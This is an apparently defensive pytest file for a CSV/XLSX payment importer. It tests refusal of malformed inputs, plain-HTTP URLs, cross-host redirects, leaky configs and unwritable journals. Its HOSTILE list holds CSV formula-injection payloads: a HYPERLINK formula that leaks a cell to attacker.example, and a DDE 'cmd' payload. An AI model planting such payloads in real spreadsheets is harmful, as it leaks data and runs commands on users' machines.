"""Hostile, huge, malformed and binary inputs; unsafe URLs and redirects; config files that leak;
report values that would run as formulas; a report dir or journal that cannot be written.

Every bad input ends in one clear line that names the file (exit 2), never a traceback, and never
a request to the API: the sandbox's request counter must not move.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from aiohttp import web
from e2e_helpers import (
    api_of,
    cli,
    free_port,
    importer_proc,
    rate_limit_for,
    results,
    run_argv,
    status_counts,
    summary,
    write_config,
)
from helpers_files import error_message, xlsx_cell_kinds, xlsx_values

from importer.neutralize import FORMULA_CHARS
from importer.sandbox.seed import generate
from importer.sandbox.settings import DEMO_SEED
from importer.sandbox.testing import SandboxThread, fast_settings

DATA = generate(DEMO_SEED, 20, min_sources=100)  # each test takes its own rows of it
HEADER = ["customer_id", "payment_source_type", "payment_source_id"]


def _good_rows(n: int, start: int = 0) -> list[list[str]]:
    return [[s.customer_id, s.type, s.id] for s in DATA.sources[start : start + n]]


def _write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return path


@pytest.fixture(scope="module")
def sandbox() -> Iterator[SandboxThread]:
    with SandboxThread(fast_settings(customers=len(DATA.customers))) as sb:
        yield sb


def _config(sb: SandboxThread, tmp_path: Path, **sections: Any) -> Path:
    rate = rate_limit_for(0.05, 25, 100) | {"safety_margin_s": 0.15}
    sections.setdefault("rate_limit", rate)
    return write_config(tmp_path / "config.yaml", api_of(sb), tmp_path / "journal.sqlite", **sections)


def _requests(sb: SandboxThread) -> int:
    return int(sb.stats()["requests_total"])


def _refused(sb: SandboxThread, tmp_path: Path, inputs: list[Path], must_name: str, **sections: Any) -> str:
    """Run the importer on `inputs`: exit 2, one clear line naming `must_name`, no traceback,
    no request to the API. Returns stderr."""
    config = _config(sb, tmp_path, **sections)
    before = _requests(sb)
    out = cli(run_argv(inputs, config, tmp_path / "rep"))
    assert out.code == 2, (out.code, out.err[-2000:])
    assert "Traceback" not in out.err and "Traceback" not in out.out
    line = error_message(out.err)
    assert must_name in line, line
    assert _requests(sb) == before, "a request reached the API"
    return line


# -- inputs ---------------------------------------------------------------------------------------


def test_a_200_mb_junk_file_is_refused_quickly(sandbox: SandboxThread, tmp_path: Path) -> None:
    junk = tmp_path / "nightly.csv"
    with open(junk, "wb") as fh:
        for _ in range(200):
            fh.write(os.urandom(1 << 20))
    assert junk.stat().st_size == 200 * (1 << 20)
    line = _refused(sandbox, tmp_path, [junk], str(junk))
    assert "CSV" in line


def _zip_renamed(path: Path) -> Path:
    target = path.with_name("payments.xlsx")
    with zipfile.ZipFile(target, "w") as z:
        z.writestr("readme.txt", "this is an ordinary zip archive, not a workbook")
    return target


def _junk_xlsx(path: Path) -> Path:
    target = path.with_name("junk.xlsx")
    target.write_bytes(os.urandom(64 * 1024))
    return target


def _junk_xls(path: Path) -> Path:
    target = path.with_name("old.xls")
    target.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(16 * 1024))
    return target


def _nul_bytes(path: Path) -> Path:
    target = _write_csv(path.with_name("nul.csv"), _good_rows(3))
    data = target.read_bytes()
    target.write_bytes(data[:40] + b"\x00\x00" + data[40:])
    return target


def _ten_thousand_junk_columns(path: Path) -> Path:
    header = [f"col{i}" for i in range(10_000)]
    return _write_csv(path.with_name("wide.csv"), [["x"] * 10_000], header)


def _unclosed_quote(path: Path) -> Path:
    target = path.with_name("quote.csv")
    good = _good_rows(2)
    target.write_text(
        ",".join(HEADER) + "\n" + ",".join(good[0]) + '\n"' + ",".join(good[1]) + "\n", encoding="utf-8"
    )
    return target


def _csv_named_xlsx(path: Path) -> Path:
    return _write_csv(path.with_name("looks.xlsx"), _good_rows(3))


def _empty(path: Path) -> Path:
    target = path.with_name("empty.csv")
    target.write_bytes(b"")
    return target


@pytest.mark.parametrize(
    "build",
    [
        _zip_renamed,
        _junk_xlsx,
        _junk_xls,
        _nul_bytes,
        _ten_thousand_junk_columns,
        _unclosed_quote,
        _csv_named_xlsx,
        _empty,
    ],
    ids=lambda f: f.__name__.strip("_"),
)
def test_malformed_inputs_are_refused_with_the_file_named(
    sandbox: SandboxThread, tmp_path: Path, build: Callable[[Path], Path]
) -> None:
    bad = build(tmp_path / "x")
    _refused(sandbox, tmp_path, [bad], str(bad))


@pytest.mark.parametrize("name_length", [1, 8], ids=["header-under-64KiB", "header-over-64KiB"])
def test_more_columns_than_excel_allows_are_refused_whatever_the_header_length(
    sandbox: SandboxThread, tmp_path: Path, name_length: int
) -> None:
    """loader._MAX_COLUMNS (16,384, Excel's limit) says a wider header row is not a table. The
    check must not depend on how long the column names are."""
    extra = [f"{i:0{name_length}d}"[-name_length:] for i in range(20_000)]
    header = [*HEADER, *extra]
    source = _write_csv(tmp_path / "wider.csv", [[*_good_rows(1, start=95)[0], *[""] * 20_000]], header)
    line = _refused(sandbox, tmp_path, [source], str(source))
    assert "16,384" in line


def test_a_10_mb_cell_is_read_and_the_row_processed(sandbox: SandboxThread, tmp_path: Path) -> None:
    """Through a child process, as a user runs it: the test session turns warnings into errors,
    and aiohttp warns (ResourceWarning) about sending a body of more than 1 MiB, which a default
    interpreter ignores."""
    rows = _good_rows(4, start=40)
    header = [*HEADER, "reference"]
    body = [[*r, f"ref-{i}"] for i, r in enumerate(rows)]
    body[1][3] = "R" * (10 * 1024 * 1024)
    source = _write_csv(tmp_path / "big-cell.csv", body, header)
    argv = run_argv([source], _config(sandbox, tmp_path), tmp_path / "rep")
    with importer_proc(argv, tmp_path, "big-cell") as proc:
        code = proc.wait(120)
        err = proc.err
    assert code in (0, 1), err[-2000:]
    assert "Traceback" not in err
    got = results(tmp_path / "rep")
    assert len(got) == 4
    assert [r["status"] for r in got[::2]] == ["created", "created"]
    assert got[3]["status"] == "created"
    assert got[1]["status"] in ("created", "failed", "invalid")
    if got[1]["status"] != "created":
        assert got[1]["error_detail"]  # a reason, not a crash


def test_ten_thousand_columns_with_the_required_ones_import_fine(
    sandbox: SandboxThread, tmp_path: Path
) -> None:
    header = [*HEADER, *(f"note{i}" for i in range(9_997))]
    rows = [[*r, *["n"] * 9_997] for r in _good_rows(3, start=50)]
    source = _write_csv(tmp_path / "wide-ok.csv", rows, header)
    out = cli(run_argv([source], _config(sandbox, tmp_path), tmp_path / "rep"))
    assert out.code == 0, out.err[-2000:]
    assert status_counts(results(tmp_path / "rep")) == {"created": 3}


def test_an_excel_formula_error_makes_the_row_invalid_naming_the_cell(
    sandbox: SandboxThread, tmp_path: Path
) -> None:
    path = tmp_path / "book.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("pairs")
    sheet.write_row(0, 0, HEADER)
    for r, row in enumerate(_good_rows(4, start=60), start=1):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value)
    sheet.write_formula(2, 2, "=1/0", None, "#DIV/0!")  # row 3, payment_source_id
    book.close()
    out = cli(run_argv([path], _config(sandbox, tmp_path), tmp_path / "rep"))
    assert out.code == 1, out.err[-2000:]  # one row invalid, the others created
    assert "Traceback" not in out.err
    got = results(tmp_path / "rep")
    assert [r["status"] for r in got] == ["created", "invalid", "created", "created"]
    bad = got[1]
    assert bad["row_number"] == "3" and bad["sheet"] == "pairs"
    assert "payment_source_id" in bad["error_detail"] and "#DIV/0!" in bad["error_detail"]


# -- report cells that would run as formulas -------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-3-4",
    "\t=1+1",
    "\r=2+2",
]


def _formula_like(value: str) -> bool:
    return value[:1] in FORMULA_CHARS


def test_report_values_that_would_run_as_formulas_stay_neutralized(
    sandbox: SandboxThread, tmp_path: Path
) -> None:
    good = _good_rows(3, start=70)
    header = [*HEADER, "reference", "metadata.note", "Free text"]
    body = [
        [*good[0], HOSTILE[0], HOSTILE[1], HOSTILE[2]],
        [*good[1], HOSTILE[3], HOSTILE[4], HOSTILE[5]],
        ["=1+1", good[2][1], "@x", "-1", "+1", "=A1"],  # invalid: hostile ids
    ]
    source = _write_csv(tmp_path / "hostile.csv", body, header)
    out = cli(
        run_argv([source], _config(sandbox, tmp_path, report={"formats": ["csv", "xlsx"]}), tmp_path / "rep")
    )
    assert out.code == 1, out.err[-2000:]
    rep = tmp_path / "rep"
    for name in ("results.csv", "failures.csv"):
        with open(rep / name, newline="", encoding="utf-8-sig") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert cells, name
        live = [c for c in cells if _formula_like(c)]
        assert not live, f"{name} has cells a spreadsheet would run: {live}"
        assert any(c.startswith("'=HYPERLINK") for c in cells) or name == "failures.csv"
    got = results(rep)
    assert [r["status"] for r in got] == ["created", "created", "invalid"]
    assert got[0]["reference"] == "'" + HOSTILE[0]  # kept, with the leading apostrophe
    kinds = xlsx_cell_kinds(rep / "results.xlsx", "Results")
    assert "f" not in kinds.values()
    # The workbook holds the original values as text cells: a string cell is never a formula,
    # so it needs no leading ' (which Excel would show as a literal quote).
    texts = [v for row in xlsx_values(rep / "results.xlsx", "Results") for v in row if isinstance(v, str)]
    assert HOSTILE[0] in texts and "'" + HOSTILE[0] not in texts
    assert {"=1+1", "@x", "-1"} <= set(texts)
    # The values reached the API as the data they are (not neutralized there).
    references = {r["reference"] for r in sandbox.records() if r.get("reference") in HOSTILE}
    assert references == {HOSTILE[0], HOSTILE[3]}


# -- URLs, redirects, config files ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "url"),
    [
        ("base_url", "http://example.com"),
        ("auth_url", "http://10.1.2.3/oauth/token"),
        ("base_url", "http://127.0.0.1.nip.io:8080"),
    ],
)
def test_plain_http_to_a_non_loopback_host_is_refused(
    sandbox: SandboxThread, tmp_path: Path, key: str, url: str
) -> None:
    source = _write_csv(tmp_path / "in.csv", _good_rows(2))
    config = _config(sandbox, tmp_path, commercelayer={key: url})
    before = _requests(sandbox)
    out = cli(run_argv([source], config, tmp_path / "rep"))
    assert out.code == 2 and "Traceback" not in out.err
    assert f"commercelayer.{key}" in out.err and "http://" in out.err
    assert _requests(sandbox) == before


def test_plain_http_from_the_environment_is_refused(
    sandbox: SandboxThread, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = _write_csv(tmp_path / "in.csv", _good_rows(2))
    monkeypatch.setenv("CL_BASE_URL", "http://api.example.org")
    out = cli(run_argv([source], _config(sandbox, tmp_path), tmp_path / "rep"))
    assert out.code == 2 and "commercelayer.base_url" in out.err and "Traceback" not in out.err


class _Servers:
    """A redirector on 127.0.0.1 answering 307 to a recorder on 127.0.0.2, on their own loop."""

    def __init__(self) -> None:
        self.seen: list[dict[str, Any]] = []
        self.port_a, self.port_b = free_port(), free_port()
        self._ready = threading.Event()
        self._stop: asyncio.Event | None = None
        self._loop: asyncio.AbstractEventLoop | None = None
        self._thread = threading.Thread(target=lambda: asyncio.run(self._main()), daemon=True)

    async def _redirect(self, request: web.Request) -> web.Response:
        raise web.HTTPTemporaryRedirect(f"http://127.0.0.2:{self.port_b}{request.path_qs}")

    async def _record(self, request: web.Request) -> web.Response:
        body = await request.text()
        self.seen.append(
            {"path": request.path, "authorization": request.headers.get("Authorization"), "body": body}
        )
        return web.json_response({"access_token": "from-the-other-host", "expires_in": 7200})

    async def _main(self) -> None:
        self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
        a, b = web.Application(), web.Application()
        a.router.add_route("*", "/{tail:.*}", self._redirect)
        b.router.add_route("*", "/{tail:.*}", self._record)
        runners = [web.AppRunner(a, access_log=None), web.AppRunner(b, access_log=None)]
        for runner in runners:
            await runner.setup()
        await web.TCPSite(runners[0], "127.0.0.1", self.port_a).start()
        await web.TCPSite(runners[1], "127.0.0.2", self.port_b).start()
        self._ready.set()
        try:
            await self._stop.wait()
        finally:
            for runner in runners:
                await runner.cleanup()

    def __enter__(self) -> _Servers:
        self._thread.start()
        assert self._ready.wait(10), "the redirect servers did not start"
        return self

    def __exit__(self, *exc: object) -> None:
        if self._loop is not None and self._stop is not None:
            self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(10)


@contextmanager
def _servers() -> Iterator[_Servers]:
    with _Servers() as s:
        yield s


def test_a_redirect_to_another_host_is_not_followed_with_the_token(
    sandbox: SandboxThread, tmp_path: Path
) -> None:
    source = _write_csv(tmp_path / "in.csv", _good_rows(3, start=80))
    with _servers() as s:
        # Tokens come from the sandbox; the API answers every call with a 307 to another host.
        config = _config(sandbox, tmp_path, commercelayer={"base_url": f"http://127.0.0.1:{s.port_a}"})
        out = cli(run_argv([source], config, tmp_path / "rep"))
        assert out.code == 1, out.err[-2000:]
        assert "Traceback" not in out.err
        got = results(tmp_path / "rep")
        assert {r["status"] for r in got} == {"failed"}
        assert {r["error_code"] for r in got} == {"REDIRECT"}
        assert all("127.0.0.2" in r["error_detail"] for r in got)
        assert s.seen == [], f"the other host was contacted: {s.seen}"


def test_a_redirected_token_endpoint_never_gets_the_client_secret(
    sandbox: SandboxThread, tmp_path: Path
) -> None:
    source = _write_csv(tmp_path / "in.csv", _good_rows(3, start=80))
    with _servers() as s:
        config = _config(
            sandbox, tmp_path, commercelayer={"auth_url": f"http://127.0.0.1:{s.port_a}/oauth/token"}
        )
        before = _requests(sandbox)
        out = cli(run_argv([source], config, tmp_path / "rep"))
        assert out.code == 3, out.err[-2000:]
        assert "Traceback" not in out.err and "authentication failed" in out.err
        assert s.seen == [], f"the client secret was sent to the other host: {s.seen}"
        assert _requests(sandbox) == before
        assert status_counts(results(tmp_path / "rep")) == {"not_attempted": 3}


def _events(err: str) -> list[dict[str, Any]]:
    out = []
    for line in err.splitlines():
        if line.startswith("{"):
            out.append(json.loads(line))
    return out


@pytest.mark.parametrize(
    ("mode", "literal", "warned"),
    [(0o644, True, True), (0o640, True, True), (0o600, True, False), (0o644, False, False)],
    ids=["world-readable", "group-readable", "private", "secret-from-env"],
)
def test_a_readable_config_with_a_literal_secret_is_warned_about(
    sandbox: SandboxThread,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    mode: int,
    literal: bool,
    warned: bool,
) -> None:
    source = _write_csv(tmp_path / "in.csv", _good_rows(2))
    secret = sandbox.client_secret
    config = _config(sandbox, tmp_path)
    if not literal:
        monkeypatch.setenv("CL_CLIENT_SECRET", secret)
        config.write_text(
            config.read_text().replace(f"client_secret: {secret}", "client_secret: ${CL_CLIENT_SECRET}")
        )
        assert "${CL_CLIENT_SECRET}" in config.read_text()
    os.chmod(config, mode)
    out = cli(
        [
            "validate",
            str(source),
            "-c",
            str(config),
            "--report-dir",
            str(tmp_path / "rep"),
            "--log-format",
            "json",
        ]
    )
    assert out.code == 0, out.err[-2000:]
    warnings = [e for e in _events(out.err) if e["event"] == "config.warning"]
    if warned:
        assert len(warnings) == 1 and warnings[0]["level"] == "warning"
        assert str(config) in warnings[0]["warning"]
    else:
        assert warnings == []
    assert secret not in out.err + out.out


# -- report dir and journal that cannot be written ------------------------------------------------


def _blocker(tmp_path: Path) -> Path:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    return blocker


@pytest.mark.parametrize(
    "what", ["report-dir", "journal-under-a-file", "journal-is-a-folder", "journal-not-sqlite"]
)
def test_an_unwritable_report_dir_or_journal_stops_before_the_first_request(
    sandbox: SandboxThread, tmp_path: Path, what: str
) -> None:
    source = _write_csv(tmp_path / "in.csv", _good_rows(3))
    report_dir = tmp_path / "rep"
    journal = tmp_path / "journal.sqlite"
    if what == "report-dir":
        report_dir = _blocker(tmp_path) / "rep"
    elif what == "journal-under-a-file":
        journal = _blocker(tmp_path) / "journal.sqlite"
    elif what == "journal-is-a-folder":
        journal.mkdir()
    else:
        journal.write_bytes(b"this is not a SQLite database, it is a text file\n" * 100)
    config = write_config(tmp_path / "config.yaml", api_of(sandbox), journal)
    before = _requests(sandbox)
    out = cli(run_argv([source], config, report_dir))
    assert out.code == 2, out.err[-2000:]
    assert "Traceback" not in out.err
    named = str(report_dir) if what == "report-dir" else str(journal)
    assert named in out.err
    assert _requests(sandbox) == before  # not one request: no token, no look-up, no POST
    if what != "report-dir":
        assert not (report_dir / "summary.json").exists()


def test_summary_counts_every_row_of_a_hostile_file_once(sandbox: SandboxThread, tmp_path: Path) -> None:
    """A mixed file (valid, invalid, repeated, blank rows) is reported row for row."""
    good = _good_rows(3, start=90)
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(HEADER)
    writer.writerows([good[0], ["", "", "x"], good[1], [], good[0], ["c" * 300, "nope", "\x7f"], good[2]])
    source = tmp_path / "mixed.csv"
    source.write_text(text.getvalue(), encoding="utf-8")
    out = cli(run_argv([source], _config(sandbox, tmp_path), tmp_path / "rep"))
    assert out.code == 1 and "Traceback" not in out.err
    got = results(tmp_path / "rep")
    assert [r["status"] for r in got] == [
        "created",
        "invalid",
        "created",
        "duplicate_in_file",
        "invalid",
        "created",
    ]
    s = summary(tmp_path / "rep")
    assert s["rows_total"] == 6 and s["rows_skipped_blank"] == 1
